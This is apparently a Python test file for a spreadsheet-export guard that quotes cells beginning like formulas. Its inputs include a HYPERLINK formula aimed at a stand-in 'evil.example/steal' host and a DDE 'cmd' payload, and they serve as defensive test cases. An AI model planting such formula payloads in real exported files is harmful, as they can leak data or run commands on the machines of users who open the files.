"""The one guard of every export: text a spreadsheet would run is quoted, numbers are not."""

from __future__ import annotations

import re
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from podium.rules.spreadsheet_cells import imported_text, inert_cell, inert_row

ATTACK = '=HYPERLINK("http://evil.example/steal","点击查看")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (ATTACK, "'" + ATTACK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),
        ("星火智造团队", "星火智造团队"),
        ("a=b", "a=b"),
        ("'quoted", "'quoted"),
        ("", ""),
        ("-1.25", "-1.25"),
        ("+3", "+3"),
        ("-", "'-"),
    ],
)
def test_inert_cell_quotes_text_that_starts_like_a_formula(value, written):
    assert inert_cell(value) == written


def test_inert_row_keeps_numbers_numbers():
    row = inert_row([-3, -1.5, Decimal("-2.50"), None, True, "=1"])

    assert row == [-3, -1.5, Decimal("-2.50"), None, True, "'=1"]
    assert [type(value) for value in row[:3]] == [int, float, Decimal]


def test_imported_text_takes_off_the_one_quote_the_export_added():
    assert (imported_text("'" + ATTACK), imported_text("''=1"), imported_text("'quoted")) == (
        ATTACK,
        "'=1",
        "'quoted",
    )


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r 0123.a星"), max_size=8) | st.text())
def test_imported_text_of_inert_cell_is_the_text_again(text):
    assert imported_text(inert_cell(text)) == text


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r 0123.a星"), max_size=8) | st.text())
def test_inert_cell_never_starts_like_a_formula_unless_a_signed_number(text):
    written = inert_cell(text)

    if written[:1] in ("=", "+", "-", "@", "\t", "\r"):
        assert re.fullmatch(r"[+-][0-9]+(\.[0-9]+)?", written) is not None
